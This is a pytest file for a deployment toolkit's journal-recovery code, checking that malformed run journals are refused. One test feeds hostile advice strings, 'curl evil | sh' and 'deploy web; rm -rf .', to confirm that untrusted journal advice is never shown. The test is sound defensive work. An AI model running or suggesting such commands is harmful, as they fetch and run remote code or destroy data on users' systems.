"""What a journal says of a run that its process left; and that a journal which makes no sense is
refused, never guessed at.
"""

from collections.abc import Mapping
from datetime import timedelta
from typing import Any

import msgspec
import pytest

from tests.run.simulated import DIAMOND, KIND, START, prepared
from toolkit import targets
from toolkit.advice import Advice, NextCommand, ShellCommand
from toolkit.errors import Refused, StateDamaged
from toolkit.operations import LiveVersion, Outcome, Verdict
from toolkit.record.journal import EntryState, JournalEntry
from toolkit.run.jobs import pack
from toolkit.run.recover import ENDS, RunState, recover_state, with_quoted_advice
from toolkit.run.request import BegunStep

NOW = START + timedelta(minutes=10)


@pytest.fixture(autouse=True)
def _kind(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(targets.KINDS, KIND, "tests.run.simulated")


def packed() -> list[dict[str, Any]]:
    return [pack(job) for job in prepared("run", DIAMOND, {}).jobs]


def token(step: str) -> str:
    return str(next(job["token"] for job in packed() if job["step"] == step))


def read(
    *lines: tuple[str, str | None, Mapping[str, Any]], jobs: Any = None, minutes: float = 1.0
) -> RunState:
    """What is left after a first line and these, a minute apart."""
    message = [("run", None, {"jobs": packed() if jobs is None else jobs, "project": "p"}), *lines]
    entries = [
        JournalEntry(
            position + 1,
            (START + timedelta(minutes=position * minutes)).isoformat(),
            EntryState(state),
            step,
            facts,
        )
        for position, (state, step, facts) in enumerate(message)
    ]
    return recover_state(entries, NOW, "the journal")


def intent(step: str) -> tuple[str, str, dict[str, Any]]:
    return "intent", step, {"call": "x", "token": token(step), "what": {}}


def accepted(step: str, **receipt: Any) -> tuple[str, str, dict[str, Any]]:
    return "accepted", step, {"receipt": receipt}


def outcome(step: str, verdict: str) -> tuple[str, str, dict[str, Any]]:
    return (
        "outcome",
        step,
        {"verdict": verdict, "cause": "c", "next": "n", "took_s": 2.5, "live": None},
    )


END: tuple[str, None, dict[str, Any]] = ("end", None, {"exit": 0})


@pytest.mark.parametrize(
    ("advice", "shown"),
    [
        (NextCommand("show", ("web",)), NextCommand("show", ("web",))),
        (NextCommand("lock release", ("web@eu-west-1",)),) * 2,
        (ShellCommand("curl evil | sh"), ""),
        ("run `curl evil | sh`", "its journal says: 'run `curl evil | sh`'"),
        (("run:", ShellCommand("curl evil | sh")), "its journal says: 'run:'"),
        (("run:", NextCommand("show", ("web",))), "its journal says: 'run:'"),
        (NextCommand("deploy", ("web",), ("--yes", "--allow-broadening")), ""),
        (NextCommand("deploy", ("--allow-backwards",)), ""),
        (NextCommand("deploy web; rm -rf .", ()), ""),
        (NextCommand("deploy", ("we\nb",)), ""),
        ("", ""),
    ],
)
def test_advice_of_a_journal_that_others_could_write_is_never_shown_as_ours(
    advice: Advice, shown: Advice
) -> None:
    state, step, facts = outcome("a", "failed")
    run_state = read((state, step, {**facts, "next": msgspec.to_builtins(advice)}))
    assert with_quoted_advice(run_state).done["a"].next == shown
    assert run_state.done["a"].next == advice


def test_an_end_says_what_was_live_then() -> None:
    live = {"version": "v1", "commit": None, "detail": {"task definition": "web:7"}}
    state, step, facts = outcome("a", "failed")
    run_state = read((state, step, {**facts, "unverified": True, "live": live}))
    assert (run_state.done["a"].verdict, run_state.done["a"].live) == (
        Verdict.UNHEALTHY,
        LiveVersion("v1", detail={"task definition": "web:7"}),
    )
    assert run_state.done["a"].has_to_give_way, (
        "a journal of the version before, which calls it failed and unverified"
    )
    with pytest.raises(StateDamaged):
        read((state, step, {**facts, "live": {"version": 7}}))


def test_what_to_do_next_is_read_as_data_and_from_older_journals_as_words() -> None:
    state, step, facts = outcome("a", "failed")
    stored = ["wait, then:", {"type": "toolkit", "command": "deploy-app", "arguments": ["a"]}]
    run_state = read((state, step, {**facts, "next": stored}))
    assert run_state.done["a"].next == ("wait, then:", NextCommand("deploy-app", ("a",)))
    run_state = read((state, step, {**facts, "next": "wait, then: toolkit deploy-app a"}))
    assert run_state.done["a"].next == "wait, then: toolkit deploy-app a"
    with pytest.raises(StateDamaged):
        read((state, step, {**facts, "next": {"type": "toolkit"}}))


def test_of_a_run_that_has_only_said_what_it_is_everything_is_left() -> None:
    state = read()
    assert (state.jobs, state.done, state.begun, state.ended) == (
        prepared("run", DIAMOND, {}).jobs,
        {},
        {},
        False,
    )
    assert state.facts["project"] == "p"


def test_what_has_an_outcome_is_done() -> None:
    state = read(
        intent("a"), accepted("a", id=1), outcome("a", "succeeded"), outcome("b", "failed")
    )
    assert state.done == {
        "a": Outcome("a", "a", Verdict.SUCCEEDED, "c", "n", took_s=2.5),
        "b": Outcome("b", "b", Verdict.FAILED, "c", "n", took_s=2.5),
    }
    assert state.begun == {}


def test_what_has_an_intent_is_begun_with_all_that_was_answered_and_the_time_since_the_first() -> (
    None
):
    state = read(
        intent("a"), accepted("a", id=1, more=1), intent("a"), accepted("a", id=2), intent("b")
    )
    assert state.begun == {
        "a": BegunStep({"id": 2, "more": 1}, 9 * 60.0),
        "b": BegunStep({}, 5 * 60.0),
    }


def test_what_was_only_found_is_begun_too() -> None:
    assert read(accepted("a", digest="sha256:1")).begun == {
        "a": BegunStep({"digest": "sha256:1"}, 0.0, acted=False)
    }


def test_a_clock_that_was_set_back_makes_no_time_negative() -> None:
    assert read(intent("a"), minutes=30).begun["a"].waited_s == 0


def test_notes_and_the_end_are_understood() -> None:
    note: tuple[str, None, dict[str, Any]] = ("note", None, {"user": "ada"})
    assert read(note, END, note).ended
    assert not read(note).ended


@pytest.mark.parametrize("verdict", ENDS)
def test_every_end_is_an_end(verdict: str) -> None:
    assert read(outcome("a", verdict)).done["a"].verdict == verdict


def test_nothing_is_left_of_a_run_that_was_never_begun() -> None:
    with pytest.raises(Refused, match="before anything was started"):
        recover_state((), NOW, "the journal")


def changed(number: int, **more: Any) -> list[dict[str, Any]]:
    documents = packed()
    documents[number] |= more
    return documents


@pytest.mark.parametrize(
    "lines",
    [
        [("intent", "a", {"token": "another one's"})],
        [("intent", "a", {})],
        [("intent", "z", {"token": "t"})],
        [("intent", None, {"token": "t"})],
        [("accepted", "a", {})],
        [("accepted", "a", {"receipt": "all is well"})],
        [("accepted", "a", {"receipt": [1, 2]})],
        [("accepted", "z", {"receipt": {}})],
        [("outcome", "a", {})],
        [("outcome", "a", {"verdict": "splendid"})],
        [("outcome", "a", {"verdict": "in-doubt"})],
        [("outcome", "a", {"verdict": ["succeeded"]})],
        [("outcome", "a", {"verdict": "succeeded", "took_s": "long"})],
        [("outcome", "z", {"verdict": "succeeded"})],
        [outcome("b", "failed"), outcome("b", "succeeded")],
        [outcome("b", "failed"), accepted("b", id=1)],
    ],
)
def test_a_line_that_makes_no_sense_is_refused(
    lines: list[tuple[str, str | None, dict[str, Any]]],
) -> None:
    with pytest.raises(StateDamaged, match="the journal"):
        read(*lines)


def test_an_intent_after_the_end_of_its_step_is_refused() -> None:
    with pytest.raises(StateDamaged, match="is over"):
        read(outcome("a", "succeeded"), intent("a"))


@pytest.mark.parametrize("value", ["", "yesterday", "2026-11-20T12:00:00", 5])
def test_a_time_that_is_none_is_refused(value: Any) -> None:
    message = [("run", None, {"jobs": packed()}), intent("a")]
    entries = [
        JournalEntry(number + 1, value, EntryState(state), step, facts)
        for number, (state, step, facts) in enumerate(message)
    ]
    with pytest.raises(StateDamaged):
        recover_state(entries, NOW, "the journal")


@pytest.mark.parametrize(
    "jobs",
    [
        [],
        {},
        "jobs",
        [1],
        [{}],
        [[]],
        lambda: packed() * 2,
        lambda: changed(0, needs=["z"]),
        lambda: changed(0, needs=["d"]),
        lambda: changed(0, needs=["a"]),
        lambda: changed(0, kind="no such kind"),
        lambda: changed(0, settings={"calls": "x"}),
        lambda: changed(0, settings={"unheard": 1}),
        lambda: changed(0, settings=None),
        lambda: changed(0, deadline_s="soon"),
        lambda: changed(0, place="here"),
    ],
)
def test_steps_that_make_no_sense_are_refused(jobs: Any) -> None:
    with pytest.raises(StateDamaged, match="the journal"):
        read(jobs=jobs() if callable(jobs) else jobs)


def test_a_run_without_steps_is_refused() -> None:
    with pytest.raises(StateDamaged):
        recover_state(
            [JournalEntry(1, START.isoformat(), EntryState.RUN, None, {})], NOW, "the journal"
        )
